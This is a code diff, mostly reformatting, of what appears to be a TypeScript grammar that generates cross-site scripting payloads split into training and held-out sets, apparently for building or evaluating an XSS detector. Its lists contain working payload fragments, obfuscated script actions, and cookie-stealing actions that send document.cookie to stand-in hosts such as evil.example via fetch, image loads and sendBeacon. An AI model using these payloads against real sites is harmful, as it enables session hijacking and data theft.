@@ -4,27 +4,94 @@
  * CSS, script-string injection) carrying a JavaScript action, then optional evasions (case, spacing,
  * entities, percent-encoding). Held-out branches are tags, events and actions kept for evaluation.
  */
-import { type Branches, type Chooser, base64, htmlEntities } from "./grammar";
+import { type Branches, base64, type Chooser, htmlEntities } from "./grammar";
 
 const BREAKOUTS: Branches<string> = {
-  train: ["", "", "\">", "'>", ">", "\"/>", "</title>", "</textarea>", "-->", "</script>", "\">'", "'\">", "</style>"],
-  held: ["</noscript>", "\"]>", "</option></select>", "]]>"],
+  train: [
+    "",
+    "",
+    '">',
+    "'>",
+    ">",
+    '"/>',
+    "</title>",
+    "</textarea>",
+    "-->",
+    "</script>",
+    "\">'",
+    "'\">",
+    "</style>",
+  ],
+  held: ["</noscript>", '"]>', "</option></select>", "]]>"],
 };
 const ACTIONS: Branches<string> = {
   train: [
-    "alert(1)", "alert('XSS')", "alert(document.cookie)", "alert(document.domain)", "prompt(1)", "confirm(1)",
-    "alert(String.fromCharCode(88,83,83))", "eval(atob('YWxlcnQoMSk='))", "document.location='http://evil.example/?c='+document.cookie",
-    "fetch('//evil.example/'+document.cookie)", "new Image().src='//x.example/?'+document.cookie", "alert`1`", "top['al'+'ert'](1)",
-    "window.location='//evil.example'", "console.log(1)", "print()", "alert(/xss/)", "eval(location.hash.slice(1))",
+    "alert(1)",
+    "alert('XSS')",
+    "alert(document.cookie)",
+    "alert(document.domain)",
+    "prompt(1)",
+    "confirm(1)",
+    "alert(String.fromCharCode(88,83,83))",
+    "eval(atob('YWxlcnQoMSk='))",
+    "document.location='http://evil.example/?c='+document.cookie",
+    "fetch('//evil.example/'+document.cookie)",
+    "new Image().src='//x.example/?'+document.cookie",
+    "alert`1`",
+    "top['al'+'ert'](1)",
+    "window.location='//evil.example'",
+    "console.log(1)",
+    "print()",
+    "alert(/xss/)",
+    "eval(location.hash.slice(1))",
   ],
-  held: ["confirm`1`", "[].constructor.constructor('alert(1)')()", "self['ale'+'rt'](1)", "setTimeout('alert(1)')", "navigator.sendBeacon('//x.example',document.cookie)"],
+  held: [
+    "confirm`1`",
+    "[].constructor.constructor('alert(1)')()",
+    "self['ale'+'rt'](1)",
+    "setTimeout('alert(1)')",
+    "navigator.sendBeacon('//x.example',document.cookie)",
+  ],
 };
 const EVENT_TAGS: Branches<string> = {
-  train: ["img src=x", "img src=1", "svg", "body", "input", "iframe", "video src=x", "audio src=x", "select", "textarea", "a href=#", "div", "image src=x", "object data=x", "embed src=x", "form", "button", "style"],
+  train: [
+    "img src=x",
+    "img src=1",
+    "svg",
+    "body",
+    "input",
+    "iframe",
+    "video src=x",
+    "audio src=x",
+    "select",
+    "textarea",
+    "a href=#",
+    "div",
+    "image src=x",
+    "object data=x",
+    "embed src=x",
+    "form",
+    "button",
+    "style",
+  ],
   held: ["details open", "marquee", "keygen", "isindex", "frameset", "math"],
 };
 const EVENTS: Branches<string> = {
-  train: ["onerror", "onload", "onmouseover", "onfocus", "onclick", "onmouseenter", "onanimationstart", "onpageshow", "onblur", "oninput", "onchange", "onkeydown", "onwheel"],
+  train: [
+    "onerror",
+    "onload",
+    "onmouseover",
+    "onfocus",
+    "onclick",
+    "onmouseenter",
+    "onanimationstart",
+    "onpageshow",
+    "onblur",
+    "oninput",
+    "onchange",
+    "onkeydown",
+    "onwheel",
+  ],
   held: ["ontoggle", "onstart", "onpointerover", "onbeforeprint", "onfocusin"],
 };
 const URL_SCHEMES: Branches<(action: string) => string> = {
@@ -50,7 +117,10 @@ const URL_TAGS: Branches<(url: string) => string> = {
     (u) => `<meta http-equiv="refresh" content="0;url=${u}">`,
     (u) => `<img src="${u}">`,
   ],
-  held: [(u) => `<math><maction actiontype="statusline" xlink:href="${u}">x</maction></math>`, (u) => `<base href="${u}//">`],
+  held: [
+    (u) => `<math><maction actiontype="statusline" xlink:href="${u}">x</maction></math>`,
+    (u) => `<base href="${u}//">`,
+  ],
 };
 
 function space(c: Chooser): string {
@@ -65,7 +135,8 @@ function quoted(c: Chooser, value: string): string {
 const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
   scriptTag: (c) => {
     const tag = c.chance(0.2) ? c.mixCase("script") : "script";
-    if (c.chance(0.25)) return `<${tag} src=${quoted(c, c.pick(["//evil.example/x.js", "http://xss.example/a.js", "data:,alert(1)", "//14.rs"]))}></${tag}>`;
+    if (c.chance(0.25))
+      return `<${tag} src=${quoted(c, c.pick(["//evil.example/x.js", "http://xss.example/a.js", "data:,alert(1)", "//14.rs"]))}></${tag}>`;
     return `<${tag}${c.chance(0.2) ? space(c) + c.pick(["type=text/javascript", "defer", ">"]) : ""}>${c.branch(ACTIONS)}</${tag}>`;
   },
   eventHandler: (c) => {
@@ -76,7 +147,7 @@ const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
   scriptUrl: (c) => c.branch(URL_TAGS)(c.branch(URL_SCHEMES)(c.branch(ACTIONS))),
   bareUrl: (c) => c.branch(URL_SCHEMES)(c.branch(ACTIONS)),
   attributeBreakout: (c) =>
-    `${c.pick(['"', "'", ""])}${space(c)}${c.branch(EVENTS)}=${quoted(c, c.branch(ACTIONS))}${c.pick(["", " x=\"", " //", " a='"])}`,
+    `${c.pick(['"', "'", ""])}${space(c)}${c.branch(EVENTS)}=${quoted(c, c.branch(ACTIONS))}${c.pick(["", ' x="', " //", " a='"])}`,
   scriptString: (c) =>
     `${c.pick(["';", '";', "';", "\\';", "');", '");', "'-", '"-', "'+", "</script><script>"])}${c.branch(ACTIONS)}${c.pick(["//", ";//", ";'", "-'", ";var a='", "</script>", ""])}`,
   css: (c) =>
@@ -85,7 +156,7 @@ const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
       `<div style="width:expression(${c.branch(ACTIONS)})">`,
       `<style>@import 'http://evil.example/x.css';</style>`,
       `<style>body{background:url("javascript:${c.branch(ACTIONS)}")}</style>`,
-      `<link rel=stylesheet href=${quoted(c, "javascript:" + c.branch(ACTIONS))}>`,
+      `<link rel=stylesheet href=${quoted(c, `javascript:${c.branch(ACTIONS)}`)}>`,
       `<x style="behavior:url(#default#time2)" onbegin=${quoted(c, c.branch(ACTIONS))}>`,
     ]),
   templateOrDom: (c) =>
